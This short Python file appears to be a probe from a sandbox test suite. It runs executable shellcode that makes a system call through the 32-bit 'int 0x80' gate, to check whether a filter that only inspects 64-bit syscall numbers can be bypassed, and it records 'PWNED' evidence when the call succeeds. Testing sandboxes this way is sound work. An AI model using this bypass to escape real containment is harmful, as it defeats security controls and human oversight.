# attack: other_instruction_sets
# kind: leak   task: any   naive: run
# attempts: reach system calls by the 32-bit door, which a filter of 64-bit numbers does not see
import os

def evidence(found="yes"):
    said = f"PWNED other_instruction_sets {found}"[:200].encode("utf-8", "replace") + b"\n"
    try:
        os.write(1, said)
        os.write(os.open("/tmp/sbx_evidence/other_instruction_sets", os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o666), said)
    except OSError:
        pass

import ctypes
import mmap
import platform

if platform.machine() == "x86_64":
    page = mmap.mmap(-1, 4096, prot=7)
    page.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")  # mov eax, 20 (getpid); int 0x80; ret
    enter = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    if enter() == os.getpid():
        evidence("int 0x80")
